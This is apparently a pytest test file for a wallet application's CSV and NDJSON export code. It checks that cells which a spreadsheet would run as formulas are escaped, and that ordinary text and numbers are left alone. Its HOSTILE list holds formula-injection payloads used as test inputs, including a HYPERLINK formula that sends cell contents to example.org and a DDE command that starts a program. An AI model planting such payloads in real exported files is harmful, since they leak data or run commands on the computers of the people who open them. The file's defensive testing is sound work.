"""Files that no spreadsheet runs, read back by readers of their own."""

import csv
import io
import json

import pytest

from wallet.exports.files import FileForm, csv_text, file_of, harmless, ndjson_text

HOSTILE = (
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠x",
    "-",
    "=",
    "-1.2.3",
    "-1e3",
    "-５",
)
PLAIN = (
    "",
    "Alice",
    "a,b",
    'say "hi"',
    "two\r\nlines",
    "two\nlines",
    "'quoted'",
    "a=b",
    "1-2",
    "ünï",
    "\u202eabc",
    "12",
)
FIGURES = (
    "-12.50",
    "0",
    "-0.000000000000000001",
    "115792089237316195423570985008687907853269984665640564039457584007913129639935",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_api_06_what_a_spreadsheet_would_run_is_a_text_in_the_file(text: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_text([("x", text, "y")]).decode(), newline=""))
    assert row == ["x", f"'{text}", "y"]


@pytest.mark.parametrize("text", [*PLAIN, *FIGURES])
def test_api_06_figures_and_harmless_texts_stay_what_they_are(text: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_text([("x", text, "y")]).decode(), newline=""))
    assert row == ["x", text, "y"]
    assert harmless(text) == text


def test_csv_is_written_by_rfc_4180() -> None:
    assert csv_text([("a", None, 5), ('1"2', "3,4", "5\n6")]) == b'a,,5\r\n"1""2","3,4","5\n6"\r\n'


def test_ndjson_has_an_object_a_line_whatever_the_texts_hold() -> None:
    lines = ndjson_text(("a", "b"), [("=1\n2", None), ("ü", 7)]).decode().split("\n")
    assert [json.loads(line) for line in lines[:-1]] == [{"a": "=1\n2", "b": None}, {"a": "ü", "b": 7}]
    assert lines[-1] == ""


async def test_a_file_without_rows_has_its_head_and_one_with_has_it_once() -> None:
    async def chunks(*sizes: int):  # type: ignore[no-untyped-def]
        for size in sizes:
            yield [("x",)] * size

    async def made(form: FileForm, *sizes: int) -> list[bytes]:
        return [part async for part in file_of(form, ("name",), chunks(*sizes))]

    assert await made(FileForm.CSV) == [b"name\r\n"]
    assert await made(FileForm.CSV, 1, 0, 2) == [b"name\r\nx\r\n", b"x\r\nx\r\n"]
    assert await made(FileForm.NDJSON) == []
    assert await made(FileForm.NDJSON, 0, 1) == [b'{"name":"x"}\n']
